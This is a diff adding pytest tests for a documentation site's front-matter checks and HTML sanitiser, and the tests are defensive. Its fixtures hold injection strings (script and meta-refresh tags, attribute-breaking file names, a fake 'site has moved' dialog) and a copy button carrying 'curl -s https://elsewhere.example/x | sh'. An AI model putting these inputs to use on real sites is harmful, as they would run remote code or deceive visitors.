@@ -26,11 +26,12 @@ import markdown
 import pytest
 from bs4 import BeautifulSoup
 
-from macros import practices, render, sanitise
+from macros import history, practices, render, sanitise
+from macros.page_macros import load_sources
 from macros.registry import Entry, Registry, load
-from scripts import build_pdf, page_text, site_config, suggestion
+from scripts import build_pdf, page_text, site_config, site_steps, suggestion
 from scripts.build_pdf import Refused, SiteFiles
-from tests.support import FIXTURES, ROOT, SCHEMA
+from tests.support import FIXTURES, ROOT, SCHEMA, git
 from tests.test_check import problem_lines, run_check
 from tests.test_suggestion import GOOD, form_body
 
@@ -221,3 +222,134 @@ def test_case_4_data_reaches_html_as_text_even_before_the_sanitiser(address):
         assert not [
             a for a in soup.find_all("a") if "elsewhere.example" in str(a.get("href", "")) and "url" not in a.get("class", [])
         ]
+
+
+# Found by the fresh hostile review: channels the templates print as they are, and what the
+# sanitiser kept that could still pass for the site's own interface.
+@pytest.mark.parametrize(
+    ("front_matter", "says"),
+    [
+        ('title: ["<meta http-equiv=refresh content=0>"]', "title must be plain text"),
+        ("title: 5", "title must be plain text"),
+        ('description: ["<script src=x.json></script> and enough words to pass the length rule here"]', "front matter has no"),
+        ("hide: 5", "hide must be a list of"),
+        ("search: x", "search may hold only"),
+        ("search: {boost: abc}", "search boost is 'abc'"),
+        ("edit_source: [a]", "edit_source ['a'] is not a file of the repository"),
+        ("edit_source: 'docs/x\"><script src=gadget.json></script>.yml'", "is not a file of the repository"),
+        ("template: redirect.html", "unknown front matter key 'template'"),
+    ],
+)
+def test_front_matter_the_templates_print_is_held_to_its_form(docs, small, front_matter, says):
+    page = docs / "about.md"  # the key goes last, where it wins over one of the same name
+    page.write_text(page.read_text(encoding="utf-8").replace("\n---\n", f"\n{front_matter}\n---\n", 1), encoding="utf-8")
+    assert any(re.search(rf"about\.md:\d+: .*{re.escape(says)}", p) for p in problem_lines(run_check(docs)))
+    built = small / "docs/about.md"
+    built.write_text(page.read_text(encoding="utf-8"), encoding="utf-8")
+    result = run_mkdocs(small)  # a plain mkdocs build, without make check, refuses it too
+    assert result.returncode != 0 and says in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("name", "says"),
+    [
+        ('assets/x"><script src="..', "a file name under docs/ uses letters"),
+        ("assets/gadget.json", "a data file of the site is one of"),
+        ("themes/extra.yml", "a data file of the site is one of"),
+    ],
+)
+def test_a_file_named_to_break_out_or_posing_as_data_is_refused(docs, name, says):
+    (docs / name).parent.mkdir(parents=True, exist_ok=True)
+    (docs / name).write_text('console.log("ran")\n', encoding="utf-8")
+    assert any(says in p for p in problem_lines(run_check(docs)))
+
+
+def test_only_the_registry_and_its_schema_are_published_as_data(built_site):
+    data = sorted(p.relative_to(built_site).as_posix() for p in built_site.rglob("*.yml")) + sorted(
+        p.relative_to(built_site).as_posix() for p in built_site.rglob("*.json") if "pagefind" not in p.parts
+    )
+    assert [d for d in data if not d.startswith(("search/", "downloads/"))] == [
+        "resources/registry.yml",
+        "resources/registry.schema.json",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "says"),
+    [
+        ("id", "x }\\n\\n<div class='md-dialog'>moved</div>\\n\\n{ #y", "field 'id': expected lower-case words"),
+        ("see", "about.md#x). [open the new glossary](https://elsewhere.example/g", "field 'see': expected a page path"),
+    ],
+)
+def test_a_glossary_id_or_see_that_is_not_plain_is_refused(docs, field, value, says):
+    glossary = docs / "glossary.yml"
+    text = glossary.read_text(encoding="utf-8")
+    first = re.search(rf"^(\s*-?\s*){field}: .*$", text, re.M) if field == "id" else None
+    text = (
+        text.replace(first.group(0), f'{first.group(1)}id: "{value}"', 1)
+        if first
+        else text.replace("  definition:", f'  see: "{value}"\n  definition:', 1)
+    )
+    glossary.write_text(text, encoding="utf-8")
+    assert any(says in p for p in problem_lines(run_check(docs)))
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<div class="md-dialog md-dialog--active">This site has moved.</div>',
+        '<span class="md-clipboard md-icon" data-clipboard-text="curl -s https://elsewhere.example/x | sh">copy</span>',
+        '<img src="/\\elsewhere.example/a.png" alt="x">',
+        '<img src="/\t/elsewhere.example/a.png" alt="x">',
+    ],
+)
+def test_what_could_pass_for_the_sites_own_interface_or_another_hosts_image_is_removed(docs, html):
+    append(docs / "about.md", html)
+    assert any("about.md:" in p for p in problem_lines(run_check(docs)))
+    shipped = sanitise.CONTENT.clean(html)  # (Markdown turns a tab into spaces: the sanitiser alone sees one)
+    soup = BeautifulSoup(shipped, "html.parser")
+    assert not [c for e in soup.find_all(True) for c in e.get("class") or [] if c.startswith("md-")]
+    assert not [e for e in soup.find_all(True) if any(a.startswith("data-") for a in e.attrs)]
+    assert not [e for e in soup.find_all("img") if e.get("src")]
+
+
+def test_a_held_fragment_is_put_back_only_where_it_stands_as_a_block():
+    token = sanitise.hold('<figure class="relation-map-figure"><p>map</p></figure>')
+    shipped = sanitise.clean(f'<p><abbr title="{token}">x</abbr></p>\n<p>{token}</p>')
+    assert shipped.count("<figure") == 1 and f'title="{token}"' in shipped
+
+
+def test_an_aligned_table_is_kept_aligned_without_a_style_attribute(docs):
+    line = append(docs / "about.md", "| Left | Right |\n|:---|---:|\n| a | b |")
+    assert not [p for p in problem_lines(run_check(docs)) if f"about.md:{line}" in p or "style" in p]
+    config = page_text.site_config(ROOT)
+    renderer = page_text.Renderer(load_sources(docs, schema=SCHEMA), config, ROOT)
+    shipped = renderer.to_html("| Left | Right |\n|:---|---:|\n| a | b |")
+    assert '<th align="left">Left</th>' in shipped and 'align="right"' in shipped and "style" not in shipped
+
+
+def test_the_abbreviations_snippet_holds_abbreviations_only(docs):
+    snippet = docs / "includes/abbreviations.md"
+    snippet.write_text(snippet.read_text(encoding="utf-8") + "A paragraph added to every page.\n", encoding="utf-8")
+    found = problem_lines(run_check(docs))
+    assert any("includes/abbreviations.md:" in p and "every line is an abbreviation" in p for p in found)
+
+
+def test_a_commit_summary_is_shown_as_written_and_stops_no_build(tmp_path):
+    """Its `{{` is escaped text on the Changes page, not macro syntax left over; its control
+    characters are no reason to fail (the guard and the log reader)."""
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs/a.md").write_text("# A\n", encoding="utf-8")
+    git(tmp_path, "init", "-q")
+    git(tmp_path, "add", "-A")
+    git(tmp_path, "commit", "-q", "-m", "About: explain the {{ ref() }} macro \x1f and \x1e, \u2028 too")
+    [commit] = history.commits(tmp_path)
+    assert commit.summary.startswith("About: explain the {{ ref() }} macro") and commit.files == ("docs/a.md",)
+    site = tmp_path / "site"
+    (site / "changes").mkdir(parents=True)
+    changelog = render.changes(history.by_month([commit]), {}, "changes/index.md")
+    html = markdown.markdown(changelog, extensions=[*MARKDOWN_EXTENSIONS, sanitise.__name__])
+    (site / "changes/index.html").write_text(f"<html><body>{html}</body></html>", encoding="utf-8")
+    assert "{{ ref() }}" in html and site_steps.source_left_in(site) == []
+    (site / "page.html").write_text("<html><body><p>{{ ref('x') }}</p></body></html>", encoding="utf-8")
+    assert site_steps.source_left_in(site) == ["page.html: macro syntax in the page text: \"{{ ref('x') }}\""]
